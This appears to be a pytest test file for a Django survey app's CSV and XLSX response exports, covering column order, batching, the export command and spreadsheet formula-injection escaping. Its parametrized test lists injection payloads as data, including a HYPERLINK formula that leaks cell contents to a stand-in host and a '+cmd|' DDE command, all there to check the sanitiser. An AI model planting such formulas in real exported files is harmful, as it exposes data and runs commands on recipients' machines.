import csv
import io

import pytest
from django.core.management import CommandError, call_command

from respondents.exports import RESPONDENT_COLUMNS, responses_write_csv, spreadsheet_safe
from respondents.tests.factories import login, make_respondents, make_school, save_page
from surveys.tests.factories import make_survey

pytestmark = pytest.mark.django_db


@pytest.fixture
def survey(client):
    survey = make_survey()
    alice, bob, _carol = make_respondents(survey, count=3, school=make_school("LIN", "Lincoln"), grade="7", role="student")
    login(client, alice)
    saves = [
        save_page(client, 1, {"q-colour": "red", "q-pets": ["fish", "cat"], "q-age": "11", "q-nickname": 'Al, "A"'}),
        save_page(client, 2, {"q-safe": "2", "q-born": "2014-03-04"}),
        save_page(client, 3, {"q-again": "1"}, nav="finish"),
    ]
    client.post("/logout/")
    login(client, bob)
    saves.append(save_page(client, 1, {"q-colour": "blue"}))
    assert all(response.json()["saved"] for response in saves)
    return survey


def read(text):
    return list(csv.reader(io.StringIO(text)))


def test_one_row_per_respondent_and_one_column_per_question_code_in_survey_order(survey):
    out = io.StringIO()
    assert responses_write_csv(survey=survey, stream=out) == 3
    header, alice, bob, carol = read(out.getvalue())
    assert header == RESPONDENT_COLUMNS + ["colour", "pets", "age", "nickname", "safe", "happy", "born", "story", "again"]
    row = dict(zip(header, alice, strict=False))
    assert row["status"] == "completed" and row["completed_at"]
    assert (row["colour"], row["pets"], row["age"], row["nickname"]) == ("red", "cat fish", "11", 'Al, "A"')
    assert (row["safe"], row["happy"], row["born"], row["again"]) == ("2", "", "2014-03-04", "1")
    assert (row["school_code"], row["school_name"], row["grade"], row["role"]) == ("LIN", "Lincoln", "7", "student")
    assert dict(zip(header, bob, strict=False))["status"] == "in_progress"
    assert dict(zip(header, carol, strict=False))["status"] == "not_started" and set(carol[len(RESPONDENT_COLUMNS):]) == {""}


def test_the_export_reads_respondents_in_batches(survey, django_assert_num_queries):
    from respondents.exports import _respondent_answers, _selection

    selection = _selection(survey=survey, using=None, school_ids=None, deidentified=False)
    # Three respondents in batches of two: (respondents + answers) twice, then one empty read.
    with django_assert_num_queries(5):
        rows = list(_respondent_answers(selection=selection, batch_size=2))
    assert len(rows) == 3


def test_the_command_writes_the_file(survey, tmp_path):
    target = tmp_path / "responses.csv"
    call_command("export_responses", "small", "--format", "csv", "--output", str(target))
    assert len(read(target.read_text())) == 4


def test_the_command_refuses_an_unknown_survey():
    with pytest.raises(CommandError, match="No survey with the slug 'nope'"):
        call_command("export_responses", "nope", "--output", "-")


@pytest.mark.parametrize("cell, written", [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-5", "-5"), ("+7", "+7"), ("-2.5", "-2.5"), ("-1e3", "-1e3"),
    ("fine = good", "fine = good"), ("", ""), (42, 42), (None, None),
])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe_and_numbers_stay_numbers(cell, written):
    assert spreadsheet_safe(cell) == written


def test_the_csv_export_writes_every_text_cell_safely(client):
    survey = make_survey()
    respondent = make_respondents(survey, external_id="=1+1", school=make_school("S1", "@school"))
    login(client, respondent)
    save_page(client, 1, {"q-nickname": "-A+B", "q-age": "12"})
    save_page(client, 3, {"q-story": '=HYPERLINK("x")'})
    out = io.StringIO()
    responses_write_csv(survey=survey, stream=out)
    header, row = read(out.getvalue())
    cells = dict(zip(header, row, strict=True))
    assert (cells["external_id"], cells["school_name"]) == ("'=1+1", "'@school")
    assert (cells["nickname"], cells["story"], cells["age"]) == ("'-A+B", "'=HYPERLINK(\"x\")", "12")


# ---------------------------------------------------------------- XLSX

def xlsx_rows(path, sheet=None):
    from openpyxl import load_workbook

    book = load_workbook(path, read_only=True)
    rows = [list(r) for r in (book[sheet] if sheet else book.worksheets[0]).iter_rows(values_only=True)]
    names = book.sheetnames
    book.close()
    return names, [["" if v is None else v for v in row] for row in rows]


def test_the_xlsx_export_holds_what_the_csv_holds(survey, tmp_path):
    from respondents.exports import responses_write_xlsx

    out = io.StringIO()
    responses_write_csv(survey=survey, stream=out)
    assert responses_write_xlsx(survey=survey, path=tmp_path / "r.xlsx") == 3
    names, rows = xlsx_rows(tmp_path / "r.xlsx")
    assert names == ["Responses"]
    assert [[str(v) for v in row] for row in rows] == read(out.getvalue())


def test_the_xlsx_export_writes_a_formula_as_text_never_as_a_formula(client, tmp_path):
    from openpyxl import load_workbook

    from respondents.exports import responses_write_xlsx

    survey = make_survey()
    respondent = make_respondents(survey, external_id="=1+1", school=make_school("S1", "@school"))
    login(client, respondent)
    save_page(client, 3, {"q-story": '=HYPERLINK("x")'})
    responses_write_xlsx(survey=survey, path=tmp_path / "r.xlsx")
    book = load_workbook(tmp_path / "r.xlsx")
    sheet = book.active
    header = [c.value for c in sheet[1]]
    cells = {name: sheet.cell(row=2, column=n + 1) for n, name in enumerate(header)}
    assert cells["external_id"].value == "=1+1" and cells["external_id"].data_type == "s"
    assert cells["story"].value == '=HYPERLINK("x")' and cells["story"].data_type == "s"


def test_past_a_sheet_s_rows_there_is_one_sheet_per_district_and_the_file_says_so(tmp_path):
    from respondents.exports import responses_write_xlsx

    survey = make_survey()
    make_respondents(survey, 3, school=make_school("LIN", "Lincoln", ("D1", "One")))
    make_respondents(survey, 2, school=make_school("ADA", "Adams", ("D2", "Two")))
    assert responses_write_xlsx(survey=survey, path=tmp_path / "r.xlsx", max_rows=3) == 5
    names, about = xlsx_rows(tmp_path / "r.xlsx", "About")
    assert names == ["About", "D1", "D1 (2)", "D2"]
    assert "one sheet per district" in about[0][0].lower()
    counts = {name: len(xlsx_rows(tmp_path / "r.xlsx", name)[1]) - 1 for name in names[1:]}
    assert counts == {"D1": 2, "D1 (2)": 1, "D2": 2}


def test_the_command_writes_xlsx_and_refuses_it_on_standard_output(survey, tmp_path):
    call_command("export_responses", survey.slug, "--format", "xlsx", "--output", str(tmp_path / "r.xlsx"),
                 stderr=io.StringIO())
    assert len(xlsx_rows(tmp_path / "r.xlsx")[1]) == 4
    with pytest.raises(CommandError, match="needs --output"):
        call_command("export_responses", survey.slug, "--format", "xlsx")
